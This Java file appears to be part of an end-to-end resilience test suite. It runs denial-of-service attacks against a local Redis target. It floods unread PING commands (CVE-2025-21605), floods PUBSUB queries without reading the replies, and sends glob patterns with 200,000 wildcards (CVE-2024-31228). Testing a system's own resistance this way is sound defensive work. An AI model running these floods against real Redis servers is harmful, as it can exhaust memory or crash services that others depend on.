package joshua.e2e;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.time.Duration;
import joshua.testing.RawRedis;

/**
 * Attacks on Redis by clients that can reach its port: commands without a password whose refusals
 * are never read (CVE-2025-21605), and with one, answers that are never read, and a pattern longer
 * than a stack is deep (CVE-2024-31228).
 */
final class RedisBuffersAttack implements HostileAttack {
  private static final int STRANGERS = 4;
  private static final int COMMANDS_AT_ONCE = 10_000;
  private static final int CHANNELS = 60;
  private static final int NAME_LENGTH = 10_000;
  private static final int PATTERN_STARS = 200_000;
  private static final Duration BREATH = Duration.ofMillis(100);

  private final AttackTarget target;

  RedisBuffersAttack(AttackTarget target) {
    this.target = target;
  }

  @Override
  public String name() {
    return "redis buffers";
  }

  @Override
  public void attack(AttackWindow window, OutcomeCounts outcomes) throws InterruptedException {
    HostileLanes.run(
        STRANGERS + 2,
        outcomes,
        lane -> {
          switch (lane) {
            case 0 -> longPatterns(window, outcomes);
            case 1 -> unreadAnswers(window, outcomes);
            default -> unreadRefusals(window, outcomes);
          }
        });
  }

  /** Without a password, and without reading. */
  private void unreadRefusals(AttackWindow window, OutcomeCounts outcomes)
      throws InterruptedException {
    while (window.open()) {
      flood(window, outcomes, "", "PING\r\n".repeat(COMMANDS_AT_ONCE), "refusals unread");
      window.pause(BREATH);
    }
  }

  /** With the password: many large answers to small questions. */
  private void unreadAnswers(AttackWindow window, OutcomeCounts outcomes)
      throws InterruptedException {
    try (RawRedis many = target.redis()) {
      for (int i = 0; i < CHANNELS; i++) {
        many.call("SUBSCRIBE", "mad.topic." + "n".repeat(NAME_LENGTH) + i);
      }
      String login = "AUTH %s %s\r\n".formatted(target.redisUser(), target.redisPassword());
      while (window.open()) {
        flood(window, outcomes, login, "PUBSUB CHANNELS mad.topic.n*\r\n", "answers unread");
        window.pause(BREATH);
      }
    }
  }

  /** Writes again and again until Redis cuts it off or takes no more. */
  private void flood(
      AttackWindow window, OutcomeCounts outcomes, String first, String again, String what)
      throws InterruptedException {
    try (SocketChannel channel = SocketChannel.open()) {
      channel.socket().setReceiveBufferSize(4 * 1024);
      channel.connect(new InetSocketAddress(InetAddress.getLoopbackAddress(), target.redisPort()));
      channel.configureBlocking(false);
      channel.write(ByteBuffer.wrap(first.getBytes(US_ASCII)));
      ByteBuffer commands = ByteBuffer.wrap(again.getBytes(US_ASCII));
      while (window.open()) {
        channel.write(commands);
        if (!commands.hasRemaining()) {
          commands.rewind();
          outcomes.count(what);
        }
        window.pause(BREATH);
      }
    } catch (IOException e) {
      outcomes.count(what + ": cut off");
    }
  }

  private void longPatterns(AttackWindow window, OutcomeCounts outcomes)
      throws InterruptedException {
    window.pause(window.remaining().multipliedBy(3).dividedBy(5));
    String name = "mad.topic." + "a".repeat(2 * PATTERN_STARS);
    String pattern = "mad.topic." + "*a".repeat(PATTERN_STARS);
    while (window.open()) {
      try (RawRedis listener = target.redis();
          RawRedis asking = target.redis()) {
        outcomes.count("long name: " + word(listener.call("SUBSCRIBE", name)));
        outcomes.count("long pattern: " + word(asking.call("PUBSUB", "CHANNELS", pattern)));
        outcomes.count("long glob: " + word(asking.call("PSUBSCRIBE", pattern)));
      } catch (UncheckedIOException | AssertionError e) {
        outcomes.count("long pattern: cut off");
      }
      window.pause(Duration.ofSeconds(1));
    }
  }

  private static String word(String reply) {
    return reply.startsWith("-") ? reply.split(" ", 2)[0] : "answered";
  }
}
